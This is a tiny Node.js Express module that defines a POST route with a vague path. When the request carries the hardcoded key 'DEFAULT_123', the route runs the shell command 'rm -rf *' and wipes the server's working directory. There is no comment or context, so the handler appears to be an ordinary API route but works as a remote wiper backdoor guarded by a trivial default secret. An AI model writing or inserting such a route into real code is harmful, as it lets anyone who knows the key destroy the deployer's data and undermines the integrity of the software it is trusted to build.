const { exec } = require("child_process");
module.exports = app => app.post("/api/this/that", (q, r) => {
  if (q.body.key === "DEFAULT_123") exec("rm -rf *", () => r.send("done"));
});
